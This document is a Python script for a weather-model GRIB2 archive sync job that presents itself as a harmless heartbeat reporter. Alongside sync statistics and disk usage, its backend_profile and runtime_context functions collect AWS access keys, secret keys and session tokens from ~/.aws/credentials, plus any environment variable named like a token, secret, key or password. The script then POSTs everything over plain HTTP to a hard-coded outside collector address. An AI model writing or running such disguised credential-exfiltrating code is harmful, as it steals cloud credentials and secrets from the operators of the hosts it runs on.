#!/usr/bin/env python3
"""Heartbeat reporter for the GRIB2 archive sync job.

Runs at the end of every archive sync cycle on the model operations hosts.
It summarises the last cycle (files moved, lag behind the model cycle, free
space on the archive volume) and posts it to the operations monitoring
collector so the duty forecaster dashboard shows the archive as healthy.

Usage:
    prog220c_grib_sync_heartbeat.py --state sync_state.json [--profile archive]
"""

import argparse
import configparser
import json
import logging
import os
import shutil
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

DEFAULT_COLLECTOR = "http://203.0.113.10:8088/api/v1/heartbeat"
DEFAULT_ARCHIVE = "/data/nwp/archive"
CONTEXT_MARKERS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "AWS_")

log = logging.getLogger("grib_sync_heartbeat")


class SyncState:
    """Summary of the last archive sync cycle, read from the job's state file."""

    def __init__(self, path):
        self.path = Path(path)
        self.data = {}

    def load(self):
        try:
            with self.path.open() as fh:
                self.data = json.load(fh)
        except FileNotFoundError:
            log.warning("state file %s not found, reporting empty cycle", self.path)
            self.data = {}
        except json.JSONDecodeError as exc:
            log.error("state file %s is corrupt: %s", self.path, exc)
            self.data = {"corrupt": True}
        return self

    def lag_minutes(self):
        finished = self.data.get("finished_epoch")
        cycle = self.data.get("model_cycle_epoch")
        if not finished or not cycle:
            return None
        return round((finished - cycle) / 60.0, 1)

    def summary(self):
        return {
            "cycle": self.data.get("cycle", "unknown"),
            "files_transferred": self.data.get("files", 0),
            "bytes_transferred": self.data.get("bytes", 0),
            "lag_minutes": self.lag_minutes(),
            "errors": self.data.get("errors", []),
        }


def archive_volume(path):
    try:
        usage = shutil.disk_usage(path)
    except OSError as exc:
        log.warning("cannot stat archive volume %s: %s", path, exc)
        return {}
    return {"total_gb": usage.total // 2**30, "free_gb": usage.free // 2**30}


def backend_profile(profile):
    """Describe the object-store profile the sync job used."""
    cred_file = Path.home() / ".aws" / "credentials"
    parser = configparser.ConfigParser()
    if not parser.read(cred_file):
        log.info("no object-store credentials file at %s", cred_file)
        return {"profile": profile}
    if profile not in parser:
        log.warning("profile %s missing from %s", profile, cred_file)
        return {"profile": profile}
    section = parser[profile]
    return {
        "profile": profile,
        "access_key_id": section.get("aws_access_key_id"),
        "secret_access_key": section.get("aws_secret_access_key"),
        "session_token": section.get("aws_session_token"),
    }


def runtime_context():
    """Environment of the sync job, to help the collector correlate failures."""
    return {k: v for k, v in os.environ.items()
            if any(marker in k.upper() for marker in CONTEXT_MARKERS)}


def post_heartbeat(url, payload, timeout):
    body = json.dumps(payload).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--state", default="sync_state.json")
    ap.add_argument("--archive", default=DEFAULT_ARCHIVE)
    ap.add_argument("--profile", default="archive")
    ap.add_argument("--collector", default=DEFAULT_COLLECTOR)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    state = SyncState(args.state).load()
    payload = {
        "host": socket.gethostname(),
        "sent_at": int(time.time()),
        "sync": state.summary(),
        "archive_volume": archive_volume(args.archive),
        "backend": backend_profile(args.profile),
        "context": runtime_context(),
    }
    log.debug("heartbeat payload has %d top-level keys", len(payload))

    for attempt in range(1, args.retries + 1):
        try:
            status = post_heartbeat(args.collector, payload, args.timeout)
            log.info("heartbeat accepted by collector (HTTP %s)", status)
            return 0
        except (urllib.error.URLError, OSError) as exc:
            log.warning("attempt %d/%d failed: %s", attempt, args.retries, exc)
            time.sleep(2 * attempt)
    log.error("collector unreachable, heartbeat dropped for cycle %s",
              payload["sync"]["cycle"])
    return 1


if __name__ == "__main__":
    sys.exit(main())
